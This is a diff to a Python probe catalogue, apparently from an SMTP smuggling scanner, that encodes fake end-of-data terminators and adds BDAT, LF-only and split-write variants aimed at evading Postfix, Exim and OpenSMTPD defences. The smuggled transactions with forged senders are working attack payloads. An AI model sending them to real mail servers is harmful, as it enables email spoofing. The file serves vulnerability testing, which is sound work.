@@ -1,9 +1,18 @@
 """The probe catalogue, as data.
 
-Every probe is written as explicit bytes: `prefix + sequence + suffix` in one write, then,
-after the phase-1 window, `closer` (usually the standard terminator). Rows and their bytes come
-from /work/shared/research/smuggling.md §3 (ids E01-E22, C01-C02, P01-P08); `source` names
-who uses the sequence and `target` what it aims at.
+Every probe is written as explicit bytes: `prefix + sequence + suffix` in one write, then each
+part of `delayed` on its own (split-write probes only), then, after the phase-1 window, `closer`
+(usually the standard terminator). The ids E01-E22 are the fake terminators collected from the
+public scanners and papers named in `source` (SEC Consult's scanner, hannob's smtpsmug, the
+USENIX Security 2025 lab, suuhm's checker), C01-C02 the controls, P01-P08 the protocol-level
+probes; `target` says what each aims at.
+
+Every exploitable sequence also comes in four variant forms, with ids `E01-B` and so on:
+    -B   the smuggled transaction as BDAT instead of DATA (E02's is P02)
+    -L   an LF-only carrier: every header and body line ends in a bare LF
+    -LB  both: an LF-only carrier, then a BDAT smuggled transaction
+    -S   split write: the smuggled commands one at a time, each after the previous reply or a
+         pause (--pause), for servers that refuse input sent ahead of a reply
 
 Placeholders are filled in at run time by `render()`; everything else is sent as written:
     {FROM} {TO}    the envelope addresses given with --from/--to
@@ -23,12 +32,12 @@ PLACEHOLDERS = ("{FROM}", "{TO}", "{SMUGGLED}", "{HELO}", "{RUN}", "{ID}")
 
 
 class Kind(enum.Enum):
-    """How a probe's result bears on exploitability (smuggling.md §8.4 item 9)."""
+    """How a probe's result bears on exploitability."""
 
     # Deliverable through a relay that dot-stuffs correctly.
     EXPLOITABLE = "exploitable"
     # Cannot reach the target through a compliant relay: a "<CRLF>.<not CRLF>" line is
-    # dot-stuffed on the way (smuggling.md §1 item 7), or the sequence holds a real terminator.
+    # dot-stuffed on the way (RFC 5321 §4.5.2), or the sequence holds a real terminator.
     HYGIENE = "hygiene"
     CONTROL = "control"
     PROTOCOL = "protocol"
@@ -80,6 +89,9 @@ class Probe:
     source: str
     target: str
     requires: str | None = None  # an EHLO keyword the probe needs, else NOT-APPLICABLE
+    # Split write: parts sent one at a time after the first write, each once the previous
+    # part got its reply or after the pause, whichever comes first.
+    delayed: tuple[bytes, ...] = ()
 
 
 # RFC 5321 §4.1.1.4: the only end of mail data.
@@ -95,8 +107,11 @@ CARRIER = (
     b"filterd smuggle probe {ID}: the bytes after this line are the probe."
 )
 
-# smuggling.md §2: SEC Consult's layout, lower-case commands after the sequence.
-SMUGGLED_COMMANDS = b"mail FROM:<{SMUGGLED}>\r\nrcpt TO:<{TO}>\r\ndata\r\n"
+# SEC Consult's layout: a CRLF after the sequence, then lower-case smuggled commands.
+SMUGGLED_MAIL = b"mail FROM:<{SMUGGLED}>\r\n"
+SMUGGLED_RCPT = b"rcpt TO:<{TO}>\r\n"
+SMUGGLED_DATA = b"data\r\n"
+SMUGGLED_COMMANDS = SMUGGLED_MAIL + SMUGGLED_RCPT + SMUGGLED_DATA
 SMUGGLED_CONTENT = (
     b"From: <{SMUGGLED}>\r\n"
     b"To: <{TO}>\r\n"
@@ -107,21 +122,31 @@ SMUGGLED_CONTENT = (
 )
 SMUGGLED = b"\r\n" + SMUGGLED_COMMANDS + SMUGGLED_CONTENT
 
-# smuggling.md §3.3 P02: the smuggled transaction as BDAT, which Postfix's pipelining check
-# never flags. The chunk holds no address, so its size is fixed once {RUN} is 8 characters.
+# Exim reads a message whose first header line ends in a bare LF in LF mode: every LF ends a
+# line (Exim spec, "Line endings"). The carrier's lines all end in LF; the sequence follows.
+LF_CARRIER = CARRIER.replace(b"\r\n", b"\n")
+
+# The smuggled transaction as BDAT (RFC 3030): MAIL, RCPT and BDAT may be pipelined, and
+# Postfix's pipelining check flags none of them (Postfix: smtpd_forbid_unauth_pipelining
+# checks HELO, EHLO, DATA, NOOP and VRFY only). The chunk holds no address, so its size is
+# fixed once the id is known and {RUN} is RUN_TOKEN_LENGTH characters.
 BDAT_CHUNK = (
-    b"Subject: filterd-smuggle {RUN} P02 smuggled\r\n"
-    b"Message-ID: <{RUN}.P02.smuggled@filterd.invalid>\r\n"
+    b"Subject: filterd-smuggle {RUN} {ID} smuggled\r\n"
+    b"Message-ID: <{RUN}.{ID}.smuggled@filterd.invalid>\r\n"
     b"\r\n"
-    b"SMUGGLED: P02 ended DATA early and this BDAT message was accepted.\r\n"
-)
-BDAT_CHUNK_SIZE = len(BDAT_CHUNK.replace(b"{RUN}", b"x" * RUN_TOKEN_LENGTH))
-BDAT_SMUGGLED = (
-    b"mail from:<{SMUGGLED}>\r\nrcpt to:<{TO}>\r\n"
-    + b"bdat %d last\r\n" % BDAT_CHUNK_SIZE
-    + BDAT_CHUNK
+    b"SMUGGLED: {ID} ended DATA early and this BDAT message was accepted.\r\n"
 )
 
+
+def bdat_smuggled(probe_id: str) -> bytes:
+    """A smuggled MAIL, RCPT and `BDAT n LAST` with its chunk, n counted for this id."""
+    chunk = BDAT_CHUNK.replace(b"{ID}", probe_id.encode())
+    size = len(chunk.replace(b"{RUN}", b"x" * RUN_TOKEN_LENGTH))
+    return b"mail from:<{SMUGGLED}>\r\nrcpt to:<{TO}>\r\n" + b"bdat %d last\r\n" % size + chunk
+
+
+# A second, ordinary message sent ahead of the replies (P01, P03). Its role is "pipelined",
+# not "smuggled": it arriving at a sink proves nothing, because no sequence hid it.
 SECOND_CONTENT = (
     b"From: <{FROM}>\r\n"
     b"To: <{TO}>\r\n"
@@ -138,6 +163,12 @@ SPLIT = (
     Step("smuggled RCPT", 2),
     Step("smuggled DATA", 3),
     Step("smuggled end of data", 2, ends_message=True),
+)
+BDAT_SPLIT = (
+    EOD,
+    Step("smuggled MAIL", 2),
+    Step("smuggled RCPT", 2),
+    Step("smuggled BDAT LAST", 2, ends_message=True),
 )
 
 
@@ -178,7 +209,7 @@ X, H = Kind.EXPLOITABLE, Kind.HYGIENE
 DOT_STUFFED = "; a compliant relay dot-stuffs this line"
 REAL_EOD = "; holds a real terminator, so it cannot smuggle"
 
-# smuggling.md §3.1: fake terminator variants.
+# Fake terminators: each replaces the standard terminator right after the carrier.
 FAKE_TERMINATORS: tuple[Probe, ...] = (
     _fake("E01", b"\n.\n", X, "SEC; smtpsmug lflf; USENIX A1", "bare LF as line end"),
     _fake("E02", b"\n.\r\n", X, "SEC; smtpsmug lfcrlf; CVE-2023-51764", "split on LF, strip CR"),
@@ -198,8 +229,8 @@ FAKE_TERMINATORS: tuple[Probe, ...] = (
     _fake("E14", b"\n\n.\r\n", X, "suuhm", "E02 after an empty bare-LF line"),
     _fake("E15", b"\r\n\x00.\r", X, "suuhm", "NUL plus lone CR"),
     _fake("E16", b"\r\n\x00.\n", X, "suuhm", "NUL plus lone LF"),
-    # smuggling.md §3.1 E17 depends on what follows; SEC's leading CRLF would make it a real
-    # terminator, so the smuggled commands follow the dot directly.
+    # E17 depends on what follows; SEC's leading CRLF would make it a real terminator, so
+    # the smuggled commands follow the dot directly.
     replace(
         _fake("E17", b"\r\n.", H, "suuhm", "incomplete dot line" + DOT_STUFFED), suffix=SMUGGLED[2:]
     ),
@@ -225,7 +256,7 @@ FAKE_TERMINATORS: tuple[Probe, ...] = (
     _fake("E22", b"\r\n. \r\n", H, "Elemta test doc", "dot space, trimmed" + DOT_STUFFED),
 )
 
-# smuggling.md §3.2: controls that any compliant server passes.
+# Controls that any compliant server passes.
 CONTROLS: tuple[Probe, ...] = (
     replace(
         IN_DATA,
@@ -248,11 +279,12 @@ CONTROLS: tuple[Probe, ...] = (
     ),
 )
 
-# smuggling.md §3.3: protocol-level rows P01-P08.
+# Protocol-level probes P01-P08.
 PROTOCOL: tuple[Probe, ...] = (
-    # §3.3 P01 sends this after a fake terminator; every E row already does that, so P01
-    # sends the smuggled transaction alone, in one write, to measure the pipelining check
-    # even on a server whose terminator is strict (§8.4 item 2, phase B).
+    # Every E row sends the smuggled transaction after its fake terminator; P01 sends such a
+    # transaction alone, in one write, to measure the pipelining check even on a server whose
+    # terminator is strict. Its message is labelled "pipelined": it is an ordinary message
+    # sent early, and its arrival at a sink is no sign of smuggling.
     Probe(
         id="P01",
         kind=Kind.PROTOCOL,
@@ -260,7 +292,7 @@ PROTOCOL: tuple[Probe, ...] = (
         rule=Rule.SYNC,
         sequence=SMUGGLED_COMMANDS,
         prefix=b"",
-        suffix=SMUGGLED_CONTENT,
+        suffix=SECOND_CONTENT,
         closer=STANDARD_EOD,
         expect=(Step("MAIL", 2), Step("RCPT", 2), Step("DATA", 3), EOD),
         source="SEC template, phase B",
@@ -273,14 +305,9 @@ PROTOCOL: tuple[Probe, ...] = (
         rule=Rule.SMUGGLE,
         sequence=b"\n.\r\n",
         prefix=CARRIER,
-        suffix=BDAT_SMUGGLED,
+        suffix=bdat_smuggled("P02"),
         closer=STANDARD_EOD,
-        expect=(
-            EOD,
-            Step("smuggled MAIL", 2),
-            Step("smuggled RCPT", 2),
-            Step("smuggled BDAT LAST", 2, ends_message=True),
-        ),
+        expect=BDAT_SPLIT,
         source="Exim test 0900; Postfix BDAT_README",
         target="BDAT smuggled transaction, never flagged as pipelining",
         requires="CHUNKING",
@@ -365,7 +392,65 @@ PROTOCOL: tuple[Probe, ...] = (
     ),
 )
 
-CATALOGUE: tuple[Probe, ...] = FAKE_TERMINATORS + CONTROLS + PROTOCOL
+
+def _line_done(sequence: bytes) -> bytes:
+    """The bytes that complete the sequence's last line: none if it ends in LF, else CRLF
+    (as in SEC's layout, where `\n.\r` is followed by CRLF and becomes `\n.\r\r\n`)."""
+    return b"" if sequence.endswith(b"\n") else b"\r\n"
+
+
+def _bdat(base: Probe) -> Probe:
+    return replace(
+        base,
+        id=f"{base.id}-B",
+        suffix=b"\r\n" + bdat_smuggled(f"{base.id}-B"),
+        expect=BDAT_SPLIT,
+        requires="CHUNKING",
+        target=f"{base.target}; BDAT smuggled transaction",
+    )
+
+
+def _lf(base: Probe) -> Probe:
+    return replace(
+        base, id=f"{base.id}-L", prefix=LF_CARRIER, target=f"{base.target}; LF-only carrier"
+    )
+
+
+def _lf_bdat(base: Probe) -> Probe:
+    return replace(
+        _bdat(base),
+        id=f"{base.id}-LB",
+        prefix=LF_CARRIER,
+        suffix=b"\r\n" + bdat_smuggled(f"{base.id}-LB"),
+        target=f"{base.target}; LF-only carrier, BDAT smuggled transaction",
+    )
+
+
+def _split(base: Probe) -> Probe:
+    # OpenSMTPD answers "500 Pipelining not supported" and drops the connection when input
+    # is waiting after a line it has just read; commands that come later are executed. So the
+    # first write ends with the line the sequence completes, and each smuggled part follows
+    # on its own.
+    return replace(
+        base,
+        id=f"{base.id}-S",
+        suffix=_line_done(base.sequence),
+        delayed=(SMUGGLED_MAIL, SMUGGLED_RCPT, SMUGGLED_DATA, SMUGGLED_CONTENT),
+        target=f"{base.target}; smuggled commands split, one write each",
+    )
+
+
+EXPLOITABLE_SEQUENCES = tuple(p for p in FAKE_TERMINATORS if p.kind is Kind.EXPLOITABLE)
+
+# E02's BDAT form is P02, which keeps the id the published attack is known by.
+VARIANTS: tuple[Probe, ...] = (
+    tuple(_bdat(p) for p in EXPLOITABLE_SEQUENCES if p.id != "E02")
+    + tuple(_lf(p) for p in EXPLOITABLE_SEQUENCES)
+    + tuple(_lf_bdat(p) for p in EXPLOITABLE_SEQUENCES)
+    + tuple(_split(p) for p in EXPLOITABLE_SEQUENCES)
+)
+
+CATALOGUE: tuple[Probe, ...] = FAKE_TERMINATORS + CONTROLS + PROTOCOL + VARIANTS
 BY_ID: dict[str, Probe] = {probe.id: probe for probe in CATALOGUE}
 
 
